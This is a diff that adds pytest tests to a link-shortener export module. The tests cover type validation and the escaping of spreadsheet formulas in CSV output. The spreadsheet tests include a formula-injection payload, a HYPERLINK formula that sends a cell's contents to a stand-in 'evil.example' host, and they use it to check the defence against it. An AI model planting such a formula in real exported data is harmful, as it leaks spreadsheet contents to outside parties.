@@ -133,3 +133,73 @@ def test_a_code_that_leads_to_two_places_is_an_error(export):
     """Two jobs with the same ids: to keep the first in silence would send the second's readers astray."""
     with pytest.raises(ExportError, match=r"su.digo.link/AbC1234 leads to two places"):
         list(export([ROWS[0], ROWS[0]._replace(target="https://example.in/other")]))
+
+
+EXPORTS = (jsonl, shlink_csv, yourls_rows, postgres_copy)
+
+
+class TestWrongRows:
+    @pytest.mark.parametrize("export", EXPORTS)
+    @pytest.mark.parametrize("rows", [None, 5, "x", b"x", object()], ids=lambda rows: type(rows).__name__)
+    def test_no_rows_are_our_error(self, export, rows):
+        with pytest.raises(ExportError, match="rows must be"):
+            list(export(rows))
+
+    @pytest.mark.parametrize("export", EXPORTS)
+    @pytest.mark.parametrize("row", ["x", None, 5, {}, ("a",)], ids=lambda row: type(row).__name__)
+    def test_a_row_of_another_kind_is_our_error(self, export, row):
+        with pytest.raises(ExportError, match="row 1 must be a link"):
+            list(export([ROWS[0], row]))
+
+    @pytest.mark.parametrize("export", EXPORTS)
+    @pytest.mark.parametrize(
+        "bad",
+        [
+            {"target": None},
+            {"target": 5},
+            {"code": b"AbC1234"},
+            {"domain": ["x"]},
+            {"title": None},
+            {"title": "\ud800"},
+            {"tags": None},
+            {"tags": "diwali"},
+            {"tags": (5,)},
+            {"tags": ("\udfff",)},
+            {"id": "7"},
+            {"id": True},
+            {"id": -1},
+            {"expires": "2027-01-31"},
+            {"expires": datetime(2027, 1, 31)},  # noqa: DTZ001 - the fault
+        ],
+        ids=ascii,
+    )
+    def test_a_field_of_another_type_is_our_error(self, export, bad):
+        with pytest.raises(ExportError, match="row 0"):
+            list(export([ROWS[1]._replace(**bad)]))
+
+
+class TestSpreadsheets:
+    """Excel and its like run a cell that begins as a formula does, and a title may come from anybody."""
+
+    @pytest.mark.parametrize(
+        "first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+    )
+    def test_a_title_or_tag_is_no_formula(self, first):
+        title = f'{first}HYPERLINK("https://evil.example/?"&A1,"x")'
+        row = ROWS[0]._replace(title=title, tags=(title, "b"))
+        _, [_, _, _, shown, tags, _] = csv.reader(io.StringIO("".join(shlink_csv([row])), newline=""))
+        assert shown == f"'{title}"
+        assert tags == f"'{title}|b"
+
+    @pytest.mark.parametrize("title", ["", "Sale", "5 = 5", "a-b", "'=1", "नमस्ते", " x", "\u20b9-50"])
+    def test_any_other_is_as_it_was(self, title):
+        _, [_, _, _, shown, _, _] = csv.reader(
+            io.StringIO("".join(shlink_csv([ROWS[0]._replace(title=title)])))
+        )
+        assert shown == title
+
+    def test_other_exports_keep_it(self):
+        row = ROWS[0]._replace(title="=1")
+        assert json.loads(next(jsonl([row])))["title"] == "=1"
+        assert next(yourls_rows([row]))["title"] == "=1"
+        assert "\t=1\t" in list(postgres_copy([row]))[1]
